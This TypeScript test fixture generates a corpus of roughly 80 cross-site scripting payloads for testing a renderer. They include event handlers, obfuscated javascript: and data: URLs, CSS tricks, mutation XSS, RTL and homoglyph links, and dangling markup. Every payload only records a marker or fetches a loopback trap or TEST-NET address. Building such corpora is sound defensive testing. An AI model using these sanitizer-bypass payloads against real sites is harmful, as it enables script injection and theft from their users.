// A corpus of hostile strings for the rendering tests: each one, if the page ever ran it as code
// or loaded what it names, would leave a trace the test can see. Code calls `top.__xss.push(id)`
// (or fetches the test's trap server on 127.0.0.1); every off-machine address is a TEST-NET one
// (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), never a real host.

export interface XssPayload {
  /** Short id ("p07"); the payload's code reports it when it runs. */
  readonly id: string;
  /** What the payload tries. */
  readonly what: string;
  readonly text: string;
}

/** Off-machine addresses the payloads point at (TEST-NET; nothing answers there). */
export const TestNetHosts = ["192.0.2.10", "198.51.100.7", "203.0.113.9"] as const;

const [netA, netB, netC] = TestNetHosts;

/** Code that marks the payload as run, with no spaces or double quotes (fits any attribute). */
function act(id: string): string {
  return `(top.__xss=top.__xss||[]).push('${id}')`;
}

function base64(text: string): string {
  return Buffer.from(text, "utf8").toString("base64");
}

/** The corpus; `trap` is the origin of the test's loopback trap server (`http://127.0.0.1:<port>`). */
export function xssCorpus(trap: string): readonly XssPayload[] {
  const entries: [string, (id: string) => string][] = [
    // Script elements and event handlers.
    ["script tag", (id) => `<script>${act(id)}</script>`],
    ["script src to the trap", (id) => `<SCRIPT SRC=${trap}/s.js?${id}></SCRIPT>`],
    ["img onerror", (id) => `<img src=x onerror="${act(id)}">`],
    ["svg onload", (id) => `<svg onload="${act(id)}"></svg>`],
    ["body onload", (id) => `<body onload="${act(id)}">`],
    ["details ontoggle", (id) => `<details open ontoggle="${act(id)}"><summary>s</summary></details>`],
    ["video onerror", (id) => `<video src=x onerror="${act(id)}"></video>`],
    ["audio onerror", (id) => `<audio src=x onerror="${act(id)}"></audio>`],
    ["video source onerror", (id) => `<video><source onerror="${act(id)}"></video>`],
    ["iframe srcdoc", (id) => `<iframe srcdoc="&lt;script&gt;${act(id)}&lt;/script&gt;"></iframe>`],
    ["object data javascript:", (id) => `<object data="javascript:${act(id)}"></object>`],
    ["embed data: html", (id) => `<embed src="data:text/html;base64,${base64(`<script>${act(id)}</script>`)}">`],
    ["input autofocus onfocus", (id) => `<input autofocus onfocus="${act(id)}">`],
    ["marquee onstart", (id) => `<marquee onstart="${act(id)}">m</marquee>`],
    ["svg animate onbegin", (id) => `<svg><animate onbegin="${act(id)}" attributeName=x dur=1s></svg>`],
    ["svg script", (id) => `<svg><script>${act(id)}</script></svg>`],
    ["full-screen pointer handler", (id) => `<div onpointerover="${act(id)}" style="position:fixed;inset:0;z-index:99999">cover</div>`],
    ["eval of base64", (id) => `<img src=x:y onerror=eval(atob('${base64(act(id))}'))>`],
    ["isindex legacy", (id) => `<isindex type=image src=1 onerror="${act(id)}">`],
    ["unclosed tag", (id) => `<img src=x onerror="${act(id)}"//`],
    // javascript:, data: and vbscript: URLs in markdown, with obfuscations.
    ["markdown javascript: link", (id) => `[click ${id}](javascript:${act(id)})`],
    ["markdown javascript: image", (id) => `![img ${id}](javascript:${act(id)})`],
    ["mixed-case scheme", (id) => `[case ${id}](JaVaScRiPt:${act(id)})`],
    ["hex entity in scheme", (id) => `[hex ${id}](jav&#x61;script:${act(id)})`],
    ["decimal entity in scheme", (id) => `[dec ${id}](&#106;avascript:${act(id)})`],
    ["named entity colon", (id) => `[colon ${id}](javascript&colon;${act(id)})`],
    ["tab inside the scheme", (id) => `[tab ${id}](java\tscript:${act(id)}) <a href="java\tscript:${act(id)}">tab</a>`],
    ["newline inside the scheme", (id) => `[nl ${id}](<java\nscript:${act(id)}>) <a href="java&#10;script:${act(id)}">nl</a>`],
    ["NUL inside the scheme", (id) => `[nul ${id}](java\u0000script:${act(id)})`],
    ["leading space and control", (id) => `[sp ${id}]( \u0001javascript:${act(id)})`],
    ["zero-width inside the scheme", (id) => `[zw ${id}](java\u200Bscript:${act(id)})`],
    ["data: html link", (id) => `[data ${id}](data:text/html;base64,${base64(`<script>${act(id)}</script>`)})`],
    ["data: svg image", (id) => `![svg ${id}](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act(id)}"/>`)})`],
    ["vbscript: link", (id) => `[vb ${id}](vbscript:${act(id)})`],
    ["reference link", (id) => `[ref ${id}][evil${id}]\n\n[evil${id}]: javascript:${act(id)}`],
    ["reference link with title", (id) => `[reft ${id}][t${id}]\n\n[t${id}]: <javascript:${act(id)}> "title"`],
    ["autolink javascript:", (id) => `<javascript:${act(id)}>`],
    ["autolink off-machine", (id) => `<http://${netB}/${id}> and bare http://${netA}/${id}`],
    ["bare javascript: text", (id) => `javascript:${act(id)}`],
    ["protocol-relative link", (id) => `[pr ${id}](//${netB}/${id}) <a href="//${netB}/${id}">pr</a>`],
    ["homoglyph https link", (id) => `[https://exаmple.com/${id}](javascript:${act(id)})`],
    ["RTL override", (id) => `[\u202Egpj.${id}.exe](javascript:${act(id)}) \u202E<img src=x onerror="${act(id)}">`],
    ["raw HTML block", (id) => `<div>\n<a href="javascript:${act(id)}">block ${id}</a>\n</div>`],
    ["data: html anchor", (id) => `<a href="data:text/html,<script>${act(id)}</script>">d</a>`],
    ["entity-encoded tag", (id) => `&lt;img src=x onerror="${act(id)}"&gt;`],
    ["fenced code, html", (id) => "```html\n" + `<img src=x onerror="${act(id)}">\n<script>${act(id)}</script>\n` + "```"],
    ["fence info string", (id) => "```\"><img src=x onerror=\"" + act(id) + "\">\ncode\n```"],
    ["inline code", (id) => "`<img src=x onerror=\"" + act(id) + "\">`"],
    // CSS.
    ["style @import and url()", (id) => `<style>@import url(${trap}/i.css?${id});body{background:url(http://${netC}/${id}.png)}</style>`],
    ["CSS expression and url(javascript:)", (id) => `<div style="width:expression(${act(id)});background:url(javascript:${act(id)})">css</div>`],
    ["CSS @import string", (id) => `<style>@import 'http://${netC}/${id}.css';</style>`],
    ["link stylesheet", (id) => `<link rel=stylesheet href="${trap}/${id}.css">`],
    ["link prefetch", (id) => `<link rel=prefetch href="http://${netA}/${id}">`],
    // Document-level tricks.
    ["meta refresh javascript:", (id) => `<meta http-equiv="refresh" content="0;url=javascript:${act(id)}">`],
    ["meta refresh off-machine", (id) => `<meta http-equiv="refresh" content="0;url=http://${netB}/${id}">`],
    ["base href", (id) => `<base href="http://${netB}/${id}/">`],
    ["form action", (id) => `<form action="http://${netB}/${id}"><button formaction="javascript:${act(id)}">go</button></form>`],
    ["template literal", (id) => "${" + act(id) + "} `${" + act(id) + "}`"],
    ["JSON-breaking quotes", (id) => `"}]},{"x":"<img src=x onerror=\\"${act(id)}\\">`],
    ["</script> in a JSON context", (id) => `</script><script>${act(id)}</script>`],
    ["HTML comment breakout", (id) => `<!--</script><img src=x onerror="${act(id)}">-->`],
    ["unicode-escaped tags", (id) => `\\u003cscript\\u003e${act(id)}\\u003c/script\\u003e`],
    // Mutation XSS and foreign content.
    ["noscript mutation", (id) => `<noscript><p title="</noscript><img src=x onerror=${act(id)}>">`],
    ["math/style mutation", (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${act(id)}">`],
    ["svg use href", (id) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="u" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${act(id)}"/></svg>`)}#u"></use></svg>`],
    ["MathML xlink:href", (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${act(id)}">math</maction></math>`],
    ["svg a xlink:href", (id) => `<svg><a xlink:href="javascript:${act(id)}"><text x=20 y=20>svg</text></a></svg>`],
    ["foreignObject iframe", (id) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${act(id)}&lt;/script&gt;"></iframe></foreignObject></svg>`],
    ["xmp and template", (id) => `<xmp><img src=x onerror="${act(id)}"></xmp><template><img src=x onerror="${act(id)}"></template>`],
    ["textarea breakout", (id) => `</textarea><img src=x onerror="${act(id)}">`],
    // Off-machine and trap fetches.
    ["img off-machine", (id) => `<img src="http://${netB}/${id}.png">`],
    ["markdown image off-machine", (id) => `![off ${id}](http://${netB}/${id}.png)`],
    ["img srcset off-machine", (id) => `<img srcset="http://${netA}/${id}.png 1x">`],
    ["img to the trap", (id) => `<img src="${trap}/hit?${id}">`],
    ["fetch to the trap", (id) => `<script>fetch('${trap}/hit?${id}')</script>`],
    ["iframe off-machine", (id) => `<iframe src="http://${netB}/${id}"></iframe>`],
    ["object off-machine", (id) => `<object data="http://${netC}/${id}.swf"></object>`],
    ["dangling markup", (id) => `<img src='http://${netB}/${id}?`],
    // Size.
    ["very long", (id) => `${"A".repeat(12_000)}<img src=x onerror="${act(id)}">`],
  ];
  return entries.map(([what, make], i) => {
    const id = `p${String(i + 1).padStart(2, "0")}`;
    return { id, what, text: make(id) };
  });
}
